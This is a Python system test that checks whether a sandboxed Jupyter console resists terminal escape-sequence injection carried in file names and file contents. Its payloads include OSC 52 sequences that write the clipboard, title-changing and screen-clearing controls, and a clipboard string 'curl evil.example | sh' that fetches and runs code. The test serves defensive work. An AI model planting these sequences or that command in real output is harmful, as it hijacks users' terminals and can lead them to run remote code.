"""Files named and filled with terminal controls cannot reach the terminal of `jupyter console`: the attack,
in a real terminal.

`jupyter console --kernel owsandbox-test` runs in a tmux pane (a server of the test's own, on a
private socket, with `set-clipboard on`, so that OSC 52 from a program in it sets tmux's paste
buffer as it sets a desktop's clipboard). The workspace holds files whose names and text are the
attacks: OSC 52 (clipboard), OSC 0 and OSC 2 (the title), `ESC [ 2 J` (clear the screen), the
alternate screen. Then `%ls`, `%read` and `%stat` of them run in the console. The pane's title, the
paste buffers and the screen must be as before; a program in another pane of the same server that
prints the same sequences changes all three, so the test would see an attack that worked.
"""

from __future__ import annotations

import base64
import json
import os
import shlex
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from ..conftest import KERNEL_NAME
from ..processes import PinnedProcesses, connected_to
from ..waiting import wait_until

pytestmark = [pytest.mark.slow, pytest.mark.system,
              pytest.mark.skipif(not os.path.isdir("/proc"), reason="finds the console's connections in /proc")]

CLIPBOARD_TEXT = "curl evil.example | sh"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_TEXT.encode()).decode() + "\x07"
TITLE = "\x1b]0;owned-title\x07"
TITLE_ST = "\x1b]2;owned-title-2\x1b\\"
CLEAR = "\x1b[2J\x1b[3J\x1b[H"
ALTERNATE = "\x1b[?1049h"
ATTACK = CLIPBOARD + TITLE + TITLE_ST + CLEAR + ALTERNATE
START_SECONDS = 60
CELL_SECONDS = 30


class Tmux:
    """A tmux server of this test's own (a private socket, no config file)."""

    def __init__(self) -> None:
        self.socket = f"owsandbox-test-{os.getpid()}-{uuid.uuid4().hex[:8]}"

    def __call__(self, *args: str) -> str:
        done = subprocess.run(["tmux", "-L", self.socket, "-f", "/dev/null", *args], capture_output=True,
                              text=True, timeout=10)
        assert done.returncode == 0, (args, done.stderr)
        return done.stdout

    def buffers(self) -> str:
        return self("list-buffers", "-F", "#{buffer_name}: #{buffer_sample}")

    def title(self, pane: str) -> str:
        return self("display-message", "-p", "-t", pane, "#{pane_title}").strip()

    def screen(self, pane: str) -> str:
        return self("capture-pane", "-p", "-t", pane)

    def kill_server(self) -> None:
        """End the server and everything in its panes, and remove its socket (tmux leaves it behind)."""
        found = subprocess.run(["tmux", "-L", self.socket, "display-message", "-p", "#{socket_path}"],
                               capture_output=True, text=True, timeout=10)
        subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True, timeout=10)
        if found.returncode == 0 and found.stdout.strip():
            Path(found.stdout.strip()).unlink(missing_ok=True)


@pytest.fixture
def tmux() -> Iterator[Tmux]:
    if subprocess.run(["which", "tmux"], capture_output=True).returncode != 0:
        if os.environ.get("CI"):
            pytest.fail("CI must have tmux")
        pytest.skip("tmux is not installed")
    server = Tmux()
    try:
        yield server
    finally:
        server.kill_server()


def hostile_workspace(folder: Path) -> Path:
    workspace = folder / "workspace"
    workspace.mkdir(parents=True)
    for name, sequence in (("clip", CLIPBOARD), ("title", TITLE), ("title2", TITLE_ST), ("clear", CLEAR),
                           ("alt", ALTERNATE)):
        (workspace / f"{name}-{sequence}.txt").write_text(f"text of {name}: {ATTACK} end\n")
    (workspace / "notes.txt").write_text(f"first line\n{ATTACK}second line\n")
    (workspace / f"dir-{ATTACK}").mkdir()
    return workspace


def console_command(folder: Path) -> str:
    env = {
        "JUPYTER_PATH": os.environ["JUPYTER_PATH"],  # the owsandbox-test kernelspec (tests/conftest.py)
        "JUPYTER_RUNTIME_DIR": str(folder / ".jupyter-runtime"),
        "JUPYTER_CONFIG_DIR": str(folder / ".jupyter-config"),
        "IPYTHONDIR": str(folder / ".ipython"),
        "PYTHONUNBUFFERED": "1",
    }
    args = [sys.executable, "-m", "jupyter_console", "--kernel", KERNEL_NAME,
            "--ZMQTerminalInteractiveShell.simple_prompt=True"]
    return "exec env " + " ".join(shlex.quote(f"{k}={v}") for k, v in env.items()) + " " + shlex.join(args)


def iopub_port(folder: Path) -> int | None:
    for path in (folder / ".jupyter-runtime").glob("kernel-*.json"):
        try:
            return int(json.loads(path.read_text())["iopub_port"])
        except (OSError, ValueError, KeyError):
            return None  # still being written
    return None


def type_cell(tmux: Tmux, pane: str, line: str, count: int) -> str:
    """Type `line` as cell `count` and wait for the next prompt; the screen then."""
    tmux("send-keys", "-t", pane, "-l", line)
    tmux("send-keys", "-t", pane, "Enter")

    def next_prompt() -> str | None:
        screen = tmux.screen(pane)
        return screen if f"In [{count + 1}]:" in screen else None

    return wait_until(next_prompt, CELL_SECONDS, f"the prompt after cell {count} ({line!r})")


@pytest.mark.timeout(180)
def test_box_text_in_the_console_leaves_title_clipboard_and_screen_alone(tmux: Tmux, tmp_path: Path) -> None:
    workspace = hostile_workspace(tmp_path)
    tmux("new-session", "-d", "-x", "120", "-y", "40", "-s", "owsandbox", "-c", str(workspace),
         console_command(tmp_path))
    tmux("set-option", "-s", "set-clipboard", "on")
    tmux("set-option", "-g", "remain-on-exit", "on")
    pane = "owsandbox:0.0"
    tmux("select-pane", "-t", pane, "-T", "before-title")
    processes = PinnedProcesses()
    console_pid = int(tmux("display-message", "-p", "-t", pane, "#{pane_pid}"))
    try:
        wait_until(lambda: "In [1]:" in tmux.screen(pane), START_SECONDS, "the console's first prompt")
        # The console does not wait for its IOPub subscription; a cell typed before it would lose its output.
        wait_until(lambda: (port := iopub_port(tmp_path)) is not None and connected_to(console_pid, port),
                   START_SECONDS, "the console's IOPub connection")
        processes.add_tree(console_pid)
        screen = type_cell(tmux, pane, "echo ready-$((6*7))", 1)
        assert "ready-42" in screen

        # The harness sees an attack that works: the same sequences printed in a pane of this server.
        tmux("new-window", "-d", "-t", "owsandbox:1", f"printf %s {shlex.quote(CLIPBOARD + TITLE)}; sleep 60")
        wait_until(lambda: CLIPBOARD_TEXT[:20] in tmux.buffers(), 10, "tmux to take OSC 52 as a paste buffer")
        wait_until(lambda: tmux.title("owsandbox:1.0") == "owned-title", 10, "tmux to take OSC 0 as the title")
        tmux("kill-window", "-t", "owsandbox:1")
        tmux("delete-buffer")
        assert tmux.buffers() == ""

        # Nothing typed holds a control (a line editor would act on it): the names come from the box.
        for count, cell in enumerate(["%ls", "%read notes.txt", "%search owned", "cd dir-*", "%shells", "exit 3"], 2):
            type_cell(tmux, pane, cell, count)
        assert tmux.title(pane) == "before-title"
        assert tmux.buffers() == "", tmux.buffers()
        assert tmux("display-message", "-p", "-t", pane, "#{alternate_on}").strip() == "0"
        history = tmux("capture-pane", "-p", "-t", pane, "-S", "-200")
        assert "In [1]: echo ready-$((6*7))" in history and "ready-42" in history  # nothing cleared the screen
        assert "clip-.txt" in history and "title-.txt" in history  # the names, as text
        assert "first line" in history and "second line" in history and "text of clip:" in history
        assert "ShellExited" in history and "workspace/dir-" in history
        assert "owned-title" not in history and CLIPBOARD_TEXT not in history
    finally:
        try:
            print(tmux("capture-pane", "-p", "-t", pane, "-S", "-200"))
        except AssertionError as exc:
            print(f"no screen to show: {exc}")
        processes.add_tree(console_pid)
        tmux.kill_server()
        processes.kill()
        processes.close()
